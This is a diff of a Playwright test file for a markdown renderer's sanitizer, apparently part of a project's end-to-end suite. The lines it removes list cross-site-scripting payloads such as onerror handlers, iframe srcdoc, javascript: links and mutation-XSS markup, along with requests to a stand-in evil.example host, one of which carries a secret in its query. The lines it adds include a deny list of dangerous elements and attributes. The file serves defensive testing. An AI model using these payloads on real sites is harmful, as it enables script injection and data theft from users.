@@ -2,83 +2,56 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Page, expect
 
-from benchmarks.bench_markdown import build, served
+from tests.e2e.hostile import DIAGRAMS, HOSTILE
+from tests.e2e.markdown_page import show
 
-PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
-
-
-@pytest.fixture(scope="module")
-def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    directory = tmp_path_factory.mktemp("markdown-page")
-    build(directory)
-    with served(directory) as address:
-        yield address
+FORBIDDEN = (
+    "script, iframe, object, embed, form, link, base, meta, "
+    "[srcdoc], [onerror], [onclick], [onload]"
+)
+# Styles come with drawings only, and those are checked.
+STYLED = "style:not(svg style), [style*='position:fixed'], [style*='url(']:not(svg *)"
 
 
 @pytest.fixture
-def page(browser: Browser, site: str) -> Iterator[Page]:
-    with browser.new_context() as context:
-        page = context.new_page()
-        page.goto(site)
-        page.wait_for_function("window.markdownPage")
-        yield page
+def page(markdown_page: Page) -> Page:
+    return markdown_page
 
 
-@pytest.fixture(autouse=True)
-def no_alarm(page: Page) -> Iterator[None]:
-    """Hostile texts set `window.alarm`, or ask for something: neither must happen."""
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
-    page.evaluate("window.alarm = 0")
-    yield
-    page.evaluate("markdownPage.idle(3)")
-    assert page.evaluate("window.alarm") == 0
-    assert not [url for url in asked if "evil" in url]
+def click_everything(page: Page) -> None:
+    page.evaluate(
+        """for (const element of document.querySelectorAll('#page *'))
+            if (!element.closest('a[href]')) element.click?.();
+        document.querySelectorAll('#page dialog').forEach(dialog => dialog.close())"""
+    )
 
 
-def show(page: Page, text: str) -> str:
-    page.evaluate("text => markdownPage.show(text)", text)
-    return str(page.locator("#page").inner_html())
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "<script>alarm = 1</script>",
-        "a <script>alarm = 1</script> b",
-        '<img src="x" onerror="alarm = 1">',
-        f'<img src="{PIXEL}" onload="alarm = 1">',
-        '<svg onload="alarm = 1"><script>alarm = 1</script></svg>',
-        '<details open ontoggle="alarm = 1">x</details>',
-        '<iframe srcdoc="<script>parent.alarm = 1</script>"></iframe>',
-        '<object data="javascript:alarm = 1"></object><embed src="javascript:alarm = 1">',
-        "<math><mtext><table><mglyph><style><!--</style>"
-        "<img title='--&gt;&lt;img src=1 onerror=alarm=1&gt;'>",
-        '<div><p <b onclick=alarm=1><img/src="x"/onerror=alarm=1>',
-        '<style>@import "//evil.example/x.css"; * { background: url(//evil.example) }</style>',
-        '<link rel="stylesheet" href="//evil.example/x.css"><base href="https://evil.example/">',
-        '<img src="https://evil.example/x.png?q=secret"> and ![x](https://evil.example/y.png)',
-        '<video src="//evil.example/v.mp4" autoplay></video><audio src="//evil.example/a"></audio>',
-        '<input autofocus onfocus="alarm = 1"><form action="//evil"><button>x</button></form>',
-        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
-        "$\\href{javascript:alarm=1}{x}$ $\\includegraphics{https://evil.example/x.png}$",
-        "$\\htmlData{x=1}{y}$ $\\htmlStyle{background:url(https://evil.example)}{y}$",
-        "```<img src=x onerror=alarm=1>\n<img src=x onerror=alarm=1>\n```",
-        "```html\n<img src=x onerror=alarm=1>\n```",
-        "[a]: javascript:alarm=1\n\n[a] [b][a]",
-    ],
-)
+@pytest.mark.parametrize("text", [text for text in HOSTILE if text not in DIAGRAMS])
 def test_hostile_markup_neither_runs_nor_asks(page: Page, text: str) -> None:
     show(page, text)
+    click_everything(page)
     page.evaluate("text => markdownPage.begin(text)", text)
-    page.evaluate("document.querySelectorAll('#page *').forEach(e => e.click?.())")
-    forbidden = "script, iframe, object, embed, form, style, link, base, meta, [onerror], [onclick]"
-    expect(page.locator("#page").locator(forbidden)).to_have_count(0)
+    click_everything(page)
+    expect(page.locator("#page").locator(f"{FORBIDDEN}, {STYLED}")).to_have_count(0)
+
+
+@pytest.mark.parametrize("text", DIAGRAMS)
+def test_a_hostile_diagram_neither_runs_nor_asks_when_it_is_drawn(page: Page, text: str) -> None:
+    show(page, text)
+    drawn_or_not = page.locator(".dost-diagram svg").or_(page.locator(".dost-code-hint"))
+    expect(drawn_or_not.first).to_be_attached()
+    click_everything(page)
+    expect(page.locator("#page").locator(f"{FORBIDDEN}, svg a")).to_have_count(0)
+    assert (
+        page.evaluate(
+            "[...document.querySelectorAll('svg style')].map(e => e.textContent)"
+            ".filter(css => /url\\((?!.?#)|@import/.test(css))"
+        )
+        == []
+    )
 
 
 @pytest.mark.parametrize(
